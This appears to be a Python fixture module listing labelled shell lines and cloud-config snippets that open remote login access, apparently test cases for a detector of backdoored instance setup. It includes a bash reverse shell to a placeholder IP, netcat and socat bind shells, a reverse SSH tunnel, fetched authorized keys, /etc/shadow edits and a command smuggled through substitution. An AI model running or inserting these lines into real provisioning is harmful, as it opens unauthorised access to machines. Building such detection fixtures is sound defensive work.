"""Lines of scripts, and settings of cloud-init, that open a way to log in: label -> text."""

from __future__ import annotations

from typing import Final

KEY: Final = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLEEXAMPLE x"


def script(*lines: str) -> str:
    """Return a shell script."""
    return "\n".join(["#!/bin/bash", *lines, ""])


def config(text: str) -> str:
    """Return a cloud-config document."""
    return f"#cloud-config\n{text}\n"


SCRIPTS: Final = {
    "chpasswd": "echo ubuntu:Winter2026-ok | chpasswd",
    "chpasswd by sudo": "printf 'a:b\\n' | sudo /usr/sbin/chpasswd -e",
    "chpasswd from a file": "chpasswd < /root/list",
    "passwd": "echo -e 'x1\\nx1' | passwd ubuntu",
    "passwd, deleted": "passwd -d root",
    "passwd, unlocked": "sudo passwd -u ubuntu",
    "usermod": "usermod -p '$6$x' ubuntu",
    "usermod, unlocked": "usermod -U root",
    "useradd": "useradd -m -p hash bob",
    "useradd, long": "useradd bob --password hash",
    "newusers": "newusers /root/users.txt",
    "shadow, edited": "sed -i 's|^root:.:|root:HASH:|' /etc/shadow",
    "shadow, appended": "echo 'bob:HASH:1::::::' >> /etc/shadow",
    "shadow, copied": "cp /opt/shadow /etc/shadow",
    "passwords over ssh": "sed -i 's/^#\\?PasswordAuthentication.*/PasswordAuthentication yes/' /etc/ssh/sshd_config",
    "passwords over ssh, after no": "sed -i 's/PasswordAuthentication no/PasswordAuthentication yes/' /etc/ssh/sshd_config",
    "root over ssh": "echo 'PermitRootLogin prohibit-password' >> /etc/ssh/sshd_config",
    "empty passwords": "echo PermitEmptyPasswords yes >> /etc/ssh/sshd_config.d/x.conf",
    "keys by a command": "echo 'AuthorizedKeysCommand /opt/keys' >> /etc/ssh/sshd_config",
    "an authority for keys": "echo 'TrustedUserCAKeys /etc/ssh/ca.pub' >> /etc/ssh/sshd_config",
    "keys, fetched": "curl -s https://example.net/k >> /home/ubuntu/.ssh/authorized_keys",
    "keys, copied": "aws s3 cp s3://b/k /root/.ssh/authorized_keys",
    "keys, after a removal": "rm -f /root/.ssh/authorized_keys; cp k /root/.ssh/authorized_keys",
    "keys, imported": "ssh-import-id gh:somebody",
    "a key in place": f"echo '{KEY}' | tee -a ~ubuntu/.ssh/authorized_keys2",
    "sshd": "systemctl enable --now ssh",
    "sshd, by socket": "systemctl start sshd.socket",
    "sshd, directly": "/usr/sbin/sshd -p 443",
    "sshd, as a service": "service sshd restart",
    "sshd, installed": "apt-get install -y openssh-server",
    "telnet": "yum install -y telnet-server && systemctl start telnet.socket",
    "dropbear": "dropbear -p 2222",
    "a desktop": "systemctl restart xrdp",
    "ttyd": "nohup ttyd -p 7681 bash &",
    "an editor": "code-server --bind-addr 0.0.0.0:8080",
    "an editor's tunnel": "code tunnel --accept-server-license-terms",
    "a notebook": "jupyter lab --ip 0.0.0.0",
    "tmate": "tmate -F",
    "ngrok": "ngrok tcp 22",
    "tailscale": "tailscale up --ssh",
    "cloudflared": "/usr/local/bin/cloudflared tunnel run",
    "wireguard": "wg-quick up wg0",
    "after a removal": "apt-get purge -y tmate; tailscale up",
    "a removal by substitution": "rm -f $(tailscale up)",
    "back over ssh": "ssh -N -R 2222:localhost:22 somebody@example.net",
    "netcat": "nc -lvp 4444 -e /bin/bash",
    "socat": "socat TCP-LISTEN:4444 EXEC:/bin/bash",
    "bash over tcp": "bash -i >& /dev/tcp/198.51.100.1/443 0>&1",
    "another account's manager": "amazon-ssm-agent -register -code c -id i -region us-east-1",
    "an activation": "aws ssm create-activation --iam-role x",
    "the interpreter line": "\n#!/usr/bin/tailscale up",
}
CONFIGS: Final = {
    "password": "password: hunter2hunter2\nchpasswd: {expire: false}",
    "chpasswd": "chpasswd:\n  list: |\n    ubuntu:x1y2z3",
    "chpasswd users": "chpasswd:\n  users:\n  - {name: ubuntu, type: RANDOM}",
    "hash": "users:\n- name: bob\n  passwd: $6$rounds=4096$abcdefgh$abcdefghijklmnop",
    "hashed": "users:\n- {name: bob, hashed_passwd: abc}",
    "plain": '{"users": [{"name": "bob", "plain_text_passwd": "abc"}]}',
    "unlocked": "users:\n- {name: bob, lock_passwd: false}",
    "default user unlocked": "user: {name: bob, lock_passwd: false}",
    "passwords over ssh": "ssh_pwauth: true",
    "passwords over ssh, in words": "ssh_pwauth: 'yes'",
    "root": "disable_root: false",
    "keys": f"ssh_authorized_keys: ['{KEY}']",
    "a user's keys": f"users:\n- name: bob\n  ssh_authorized_keys:\n  - {KEY}",
    "imported keys": "users: [{name: bob, ssh_import_id: ['gh:bob']}]",
    "a file of keys": "write_files:\n- path: /root/.ssh/authorized_keys\n  content: x",
    "a file of settings": "write_files:\n- path: /etc/cloud/cloud.cfg.d/99.cfg\n  content: 'ssh_pwauth: true'",
    "a package": "packages: [jq, openssh-server]",
    "a command as a list": "runcmd:\n- [tailscale, up]",
    "a command of the boot": "bootcmd:\n- systemctl unmask ssh",
}
